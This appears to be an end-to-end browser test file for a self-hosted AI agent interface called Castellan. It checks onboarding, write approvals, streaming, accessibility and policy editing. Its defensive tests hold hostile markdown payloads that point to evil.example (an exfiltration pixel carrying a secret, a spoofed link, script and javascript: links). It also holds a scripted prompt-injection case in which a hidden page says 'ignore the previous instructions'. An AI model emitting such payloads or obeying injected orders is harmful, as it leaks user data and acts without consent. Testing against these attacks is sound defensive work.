/** The page in a real browser against a real house: a stranger's first visit, a turn that asks, and hostile answers. */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
import { axe, startBrowser, type Visitor, visit } from './browser.ts'
import { type DigestModel, digestOf, saved, startDigestModel } from './digest.ts'
import { type Instance, showWhenFailed, startInstance } from './instance.ts'
import { type Site, startSite } from './site.ts'

vi.setConfig({ testTimeout: 90_000, hookTimeout: 180_000 })

let site: Site
let model: DigestModel
let house: Instance
let browser: Browser
let owner: Visitor
let page: Page
showWhenFailed(() => house)
beforeEach(({ onTestFailed }) =>
  onTestFailed(async () => console.error(`${page?.url()}\n${await page?.locator('main').textContent()}`)),
)

const hostile = [
  'See ![a picture](https://evil.example/pixel.png?q=secret) and [the notes](https://bank.example@evil.example/notes).',
  '<img src="https://evil.example/raw.png"><script>document.title = "owned"</script><iframe src="https://evil.example"></iframe>',
  '[press me](javascript:document.title="owned") https://evil.example/bare',
].join('\n\n')

beforeAll(async () => {
  site = await startSite()
  model = await startDigestModel(site)
  model.play('who are you', [{ text: 'I am **Castellan**, and I keep this house.', piece: 5 }])
  model.play('be hostile', [{ text: hostile, piece: 9 }])
  model.play('count slowly', [
    { text: Array.from({ length: 400 }, (_, i) => `line ${i}\n\n`), betweenMs: 25 },
  ])
  model.play('when is the pool open', [
    { toolCalls: [{ name: 'web_fetch', args: { url: `${site.url}/hidden.html` } }] },
    { text: 'On Sundays. I have sent the mail to bob@town.example.' },
  ])
  house = await startInstance({ allow: [site.host], unsealed: true })
  browser = await startBrowser()
  owner = await visit(browser, house.url)
  page = owner.page
})
afterAll(async () => {
  await browser?.close()
  await house?.close()
  await Promise.all([model?.close(), site?.close()])
})

const say = async (text: string): Promise<void> => {
  await page.getByLabel('Message to Castellan').fill(text)
  await page.keyboard.press('Enter')
}

const password = async (): Promise<string> =>
  /^ADMIN_PASSWORD=(.*)$/m.exec(await readFile(join(house.directory, '.env.secrets'), 'utf8'))?.[1] ?? ''

describe('a first visit', () => {
  test('comes in by the link, whose token leaves the address at once and works only once', async () => {
    await page.goto(house.link)
    await page.getByRole('heading', { name: 'First steps' }).waitFor()
    expect(page.url()).not.toContain('#')
    const thief = await visit(browser, house.url)
    await thief.page.goto(house.link)
    await thief.page.getByText('used already').waitFor()
    expect(thief.page.url()).not.toContain('#')
    expect(thief.faults).toEqual([])
    await thief.close()
  })

  test('adds a model after testing it', async () => {
    await page.getByLabel('Provider').selectOption('anthropic')
    await page.getByLabel('Model', { exact: true }).fill('fake-model')
    await page.getByLabel('Key', { exact: true }).fill('sk-ant-fake-key-of-the-tests')
    await page.getByText('Address, name and use').click()
    await page.getByLabel('Address', { exact: true }).fill(model.anthropicUrl)
    await page.getByRole('button', { name: 'Test' }).click()
    await page.getByText('It answered in').waitFor()
    await page.getByRole('button', { name: 'Add this model' }).click()
    await page.getByText('fake-model is there').waitFor()
  })

  test('says hello through it', async () => {
    await page.getByRole('button', { name: 'Say hello' }).click()
    await page
      .locator('.step-run')
      .getByText('I keep this house')
      .or(page.locator('.step-run').getByText('OK'))
      .first()
      .waitFor()
  })

  test('decides once, by keyboard, and sees what came of it', async () => {
    await page.getByRole('button', { name: 'Show me one' }).click()
    const card = page.getByRole('article', { name: /wants to write/ })
    await card.waitFor()
    expect(await card.getByText('pasted').count()).toBeGreaterThan(0)
    await card.locator('.approve[aria-disabled="false"]').waitFor()
    await card.getByRole('button', { name: /Deny/ }).focus()
    await page.keyboard.press('a')
    await page.getByRole('heading', { name: 'All three done' }).waitFor()
    await page.locator('.call-states').getByText('done').waitFor()
    expect(await readFile(join(house.workspace, 'welcome.md'), 'utf8')).toContain('keeps your castle')
  })
})

describe('a turn', () => {
  test('streams, asks in place, and shows the line after the first foreign reading', async () => {
    const digest = digestOf(site, 'page')
    await page.goto(`${house.url}/chat`)
    await say(digest.words)
    const card = page.getByRole('article', { name: /wants to write/ })
    await card.waitFor()
    await page.getByText('From here on this run has read').waitFor()
    expect(await card.locator('.chip', { hasText: 'feed' }).count()).toBeGreaterThan(0)
    expect(await card.getByRole('timer').textContent()).toMatch(/\d+ (h|min|d)/)
    expect(await axe(page)).toEqual([])
    await card.getByRole('button', { name: /Approve/ }).click()
    await page.getByText('The night ferry moves to pier 4.').last().waitFor()
    expect(await saved(house, digest)).toBe(digest.summary)
  })

  test('that is denied writes nothing', async () => {
    const digest = digestOf(site, 'denied')
    await page.goto(`${house.url}/chat`)
    await say(digest.words)
    await page.getByRole('article', { name: /wants to write/ }).waitFor()
    await page.goto(`${house.url}/waiting`)
    const deny = page.getByRole('button', { name: /Deny/ })
    await deny.waitFor()
    expect(await page.evaluate('document.activeElement?.textContent.startsWith("Deny")')).toBe(true)
    await page.keyboard.press('Enter')
    await page.getByText('You denied this.').waitFor()
    await expect(saved(house, digest)).rejects.toThrow('ENOENT')
  })

  test('can be stopped', async () => {
    await page.goto(`${house.url}/chat`)
    await say('count slowly')
    await page.getByText('line 5').first().waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('You stopped this.').waitFor()
  })

  test('does not move what is being read while it streams', async () => {
    await page.goto(`${house.url}/chat`)
    await say('count slowly, again')
    await page.getByText('line 40').first().waitFor()
    const scroll = page.locator('.conversation-scroll')
    await scroll.hover()
    await page.mouse.wheel(0, -400)
    const at = async () => (await page.getByText('line 12', { exact: true }).boundingBox())?.y
    await page.getByText('line 55', { exact: true }).waitFor({ state: 'attached' })
    const before = await at()
    await page.getByText('line 75', { exact: true }).waitFor({ state: 'attached' })
    expect(await at()).toBe(before)
    await page.getByRole('button', { name: 'Stop' }).click()
  })
})

describe('a page that hides an order, and a model that obeys it', () => {
  test('is marked, and what the model then says it did has no receipt', async () => {
    await page.goto(`${house.url}/chat`)
    await say(`when is the pool open, see ${site.url}/hidden.html`)
    await page.getByText('Castellan has no record of this.').waitFor()
    await page.locator('.receipts q', { hasText: 'I have sent the mail to bob@town.example.' }).waitFor()
    await page.getByText('This page hides text from people').first().click()
    await page.locator('.found-excerpt', { hasText: 'ignore the previous instructions' }).first().waitFor()
    await page.getByText('From here on this run has read').waitFor()
    await page.getByRole('button', { name: 'Start a fresh conversation' }).waitFor()
    expect(await axe(page)).toEqual([])
    await page.setViewportSize({ width: 390, height: 844 })
    const beyond = () => page.evaluate('document.documentElement.scrollWidth - innerWidth')
    await expect.poll(beyond).toBeLessThanOrEqual(0)
    await page.setViewportSize({ width: 1280, height: 860 })
  })
})

describe('a hostile answer', () => {
  test('loads nothing, opens nothing and runs nothing by itself', async () => {
    await page.goto(`${house.url}/chat`)
    await say('be hostile')
    await page.getByText('https://evil.example/pixel.png?q=secret').waitFor()
    await page.getByText('<script>').first().waitFor()
    expect(await page.locator('.markdown img, .markdown iframe, .markdown script').count()).toBe(0)
    expect(await page.locator('.markdown a[href]').count()).toBe(0)
    expect(await page.title()).not.toContain('owned')
  })

  test('shows where a link leads before a second click may open it', async () => {
    await page.getByRole('button', { name: /the notes/ }).click()
    const pane = page.getByRole('dialog')
    await pane.getByRole('heading', { name: 'This link leads to evil.example' }).waitFor()
    const open = pane.getByRole('link', { name: 'Open in a new tab' })
    expect(await open.getAttribute('rel')).toBe('noopener noreferrer')
    expect(await axe(page)).toEqual([])
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: /press me/ }).click()
    await pane.getByText('does not open javascript: addresses').waitFor()
    expect(await pane.getByRole('link').count()).toBe(0)
    await page.keyboard.press('Escape')
  })
})

const rooms = [
  '/chat',
  '/waiting',
  '/ledger',
  '/models',
  '/policies',
  '/settings',
  '/settings/secrets',
  '/settings/sessions',
  '/system',
]

describe('every room', () => {
  test.each(rooms)('%s is axe-clean in light and dark and fits a phone', async (path) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      await page.goto(`${house.url}${path}`)
      await page.getByRole('heading', { level: 1 }).first().waitFor()
      await page.locator('.loading').waitFor({ state: 'detached' })
      expect(await axe(page)).toEqual([])
    }
    await page.setViewportSize({ width: 390, height: 844 })
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    await page.setViewportSize({ width: 1280, height: 860 })
  })

  test('shows the ledger whole, with its chain verified', async () => {
    await page.goto(`${house.url}/ledger?skill=file.write`)
    await page.getByText('The chain holds').waitFor()
    await page.locator('.cell-seq a').first().click()
    await page
      .getByRole('dialog', { name: /Row \d+/ })
      .getByText('On whose word')
      .waitFor()
  })

  test('takes a rule once it passes and the password is given, and puts it in force', async () => {
    await page.goto(`${house.url}/policies`)
    const editor = page.getByLabel('Your rules, in Cedar')
    await editor.fill('permit (principal, action, resource) when { context.unread };')
    await page.getByText('This cannot be put in force.').waitFor()
    await page.getByRole('button', { name: 'line 1' }).click()
    expect(await page.getByRole('button', { name: 'Save…' }).isDisabled()).toBe(true)
    await editor.fill(
      '@id("no-posts") @says("Nothing is posted.")\nforbid (principal, action, resource == Castellan::Skill::"http.post");',
    )
    await page.getByText('1 rule, nothing to say against.').waitFor()
    await page.getByRole('button', { name: 'Save…' }).click()
    await page.getByText(/of \d+ past calls of the last 30 days|There are no past calls/).waitFor()
    expect(await axe(page)).toEqual([])
    await page.getByLabel('Admin password').fill(await password())
    await page.getByRole('button', { name: 'Put in force' }).click()
    await page.getByText('In force since just now.').waitFor()
    await page.getByText('Nothing is posted.').first().waitFor()
  })

  test('never shows a secret', async () => {
    await page.goto(`${house.url}/settings`)
    await page.getByText('ADMIN_PASSWORD').first().waitFor()
    expect(await page.content()).not.toContain(await password())
  })
})

test('a session ends at the door, and the password opens it again', async () => {
  await page.goto(`${house.url}/system`)
  await page.getByRole('button', { name: 'Sign out' }).click()
  await page.getByLabel('Admin password').fill('not the password')
  await page.getByRole('button', { name: 'Sign in', exact: true }).click()
  await page.getByText('That is not the password.').waitFor()
  expect(await axe(page)).toEqual([])
  await page.getByLabel('Admin password').fill(await password())
  await page.getByRole('button', { name: 'Sign in', exact: true }).click()
  await page.getByRole('heading', { name: 'System' }).waitFor()
})

test('no visit asked another host for anything or broke the page policy', () => {
  expect(owner.faults).toEqual([])
})
